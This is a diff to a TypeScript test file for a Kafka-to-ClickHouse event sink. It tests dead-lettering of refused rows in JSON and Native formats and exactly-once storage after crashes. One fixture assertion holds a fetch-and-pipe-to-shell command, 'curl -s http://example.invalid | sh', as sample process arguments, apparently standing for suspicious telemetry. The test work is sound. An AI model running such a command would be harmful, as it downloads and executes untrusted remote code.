@@ -1,5 +1,5 @@
 import t from 'tap';
-import { EVENTS, type TableSpec } from '@tracehound/clickhouse';
+import { EVENTS, insertColumns, type TableSpec } from '@tracehound/clickhouse';
 import type { BatchContext, ConsumedRecord } from '@tracehound/kafka';
 import { silentLogger } from '@tracehound/logging';
 import type { Event } from '@tracehound/schemas';
@@ -62,9 +62,10 @@ t.test('the same chunk inserted twice (an unclear failure retried) is stored onc
   const inner = clickhouseStore(ch, 'sink');
   let failAfter = 2;
   const store: SinkStore = {
+    native: inner.native,
     storedUpTo: inner.storedUpTo,
-    async insert(spec: TableSpec, rows, token) {
-      await inner.insert(spec, rows, token);
+    async insert(spec: TableSpec, rows, token, native) {
+      await inner.insert(spec, rows, token, native);
       // The insert held but the answer is lost (timeout, connection reset): the writer must retry.
       if (failAfter-- > 0) throw Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' });
     },
@@ -94,37 +95,63 @@ t.test('rows the engine refuses go to the dead-letter topic with the reason; the
   t.equal(await count(ch, 'SELECT count() FROM sink.events'), 2 * 197);
 });
 
-t.test('a crash after a split batch stored some good rows loses no dead letter: the re-delivery skips only what is settled', async (t) => {
+/** Rows each format refuses: a lone UTF-16 surrogate in JSON (\ud800 escaped, refused by the engine), a negative pid in Native (refused by the encoder). */
+const REFUSED = {
+  JSONCompactEachRow: (e: Event) => void (e.process!.args = ['sh', '-c', 'echo \ud800']),
+  Native: (e: Event) => void (e.process!.pid = -5),
+} as const;
+const OFFSET = insertColumns(EVENTS).indexOf('kafka_offset');
+const offsetOf = (r: unknown) => Number(Array.isArray(r) ? r[OFFSET] : (r as { kafka_offset: unknown }).kafka_offset);
+
+t.test('Native inserts: a row the encoder cannot write is dead-lettered with the reason; the rest is stored', async (t) => {
   const ch = embeddedClickHouse(t);
   await migrated(t, ch);
-  const events = freshEvents(200);
-  for (const i of [17, 123, 124]) events[i]!.process!.args = ['sh', '-c', 'echo \ud800'];
-  const inner = clickhouseStore(ch, 'sink');
-  const first = context();
-  // The process dies right after the first insert that holds a row past offset 5100 (5017 is refused before it).
-  const store: SinkStore = {
-    storedUpTo: inner.storedUpTo,
-    async insert(spec: TableSpec, rows, token) {
-      await inner.insert(spec, rows, token);
-      if (rows.some((r) => Number((r as { kafka_offset: unknown }).kafka_offset) > 5100)) {
-        first.crash();
-        throw new Error('killed');
-      }
-    },
-  };
-  const w1 = new SinkWriter({ store, tables, batchRows: 1000, logger: silentLogger(), retry: { initialDelayMs: 5, maxDelayMs: 10 } });
-  await t.rejects(w1.handle(records(events, 0, 5000), first.ctx), /killed/);
-  const stored = await count(ch, 'SELECT count() FROM sink.events');
-  t.ok(stored > 17 && stored < 197, `the crash came after good rows past the refused one were stored (${stored})`);
-  // A new process: the batch is delivered again from the committed offset.
-  const second = context();
-  const w2 = new SinkWriter({ store: inner, tables, batchRows: 1000, logger: silentLogger() });
-  await w2.handle(records(events, 0, 5000), second.ctx);
-  await second.finish();
-  const sent = [...first.dead, ...second.dead].map((d) => d.offset);
-  t.same([...new Set(sent)].sort(), ['5017', '5123', '5124'], 'every refused row reached the dead-letter topic');
-  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197, 'the good rows exactly once');
+  const events = freshEvents(200, 'native');
+  for (const i of [3, 150, 151]) REFUSED.Native(events[i]!);
+  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 1000, logger: silentLogger() });
+  const c = context();
+  await w.handle(records(events, 2, 100), c.ctx);
+  await c.finish();
+  t.same(c.dead.map((d) => d.offset), ['103', '250', '251']);
+  t.ok(c.dead.every((d) => d.code === 'TH_ERR_CLICKHOUSE_DATA' && /Native/.test(d.reason)), 'the reason names the problem');
+  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197);
+  t.equal(await count(ch, "SELECT count() FROM sink.events WHERE id = 'native-4' AND pid = 4242 AND args = ['bash', '-c', 'curl -s http://example.invalid | sh']"), 1, 'a good row intact');
 });
+
+for (const format of ['JSONCompactEachRow', 'Native'] as const) {
+  t.test(`${format}: a crash after a split batch stored some good rows loses no dead letter: the re-delivery skips only what is settled`, async (t) => {
+    const ch = embeddedClickHouse(t);
+    await migrated(t, ch);
+    const events = freshEvents(200);
+    for (const i of [17, 123, 124]) REFUSED[format](events[i]!);
+    const inner = clickhouseStore(ch, 'sink', format);
+    const first = context();
+    // The process dies right after the first insert that holds a row past offset 5100 (5017 is refused before it).
+    const store: SinkStore = {
+      native: inner.native,
+      storedUpTo: inner.storedUpTo,
+      async insert(spec: TableSpec, rows, token, native) {
+        await inner.insert(spec, rows, token, native);
+        if (rows.some((r) => offsetOf(r) > 5100)) {
+          first.crash();
+          throw new Error('killed');
+        }
+      },
+    };
+    const w1 = new SinkWriter({ store, tables, batchRows: 1000, logger: silentLogger(), retry: { initialDelayMs: 5, maxDelayMs: 10 } });
+    await t.rejects(w1.handle(records(events, 0, 5000), first.ctx), /killed/);
+    const stored = await count(ch, 'SELECT count() FROM sink.events');
+    t.ok(stored > 17 && stored < 197, `the crash came after good rows past the refused one were stored (${stored})`);
+    // A new process: the batch is delivered again from the committed offset.
+    const second = context();
+    const w2 = new SinkWriter({ store: inner, tables, batchRows: 1000, logger: silentLogger() });
+    await w2.handle(records(events, 0, 5000), second.ctx);
+    await second.finish();
+    const sent = [...first.dead, ...second.dead].map((d) => d.offset);
+    t.same([...new Set(sent)].sort(), ['5017', '5123', '5124'], 'every refused row reached the dead-letter topic');
+    t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197, 'the good rows exactly once');
+  });
+}
 
 t.test('ClickHouse closed mid-stream: the writer waits, reports unavailable, and stores everything once it is back', async (t) => {
   const ch = switchableClickHouse(t);
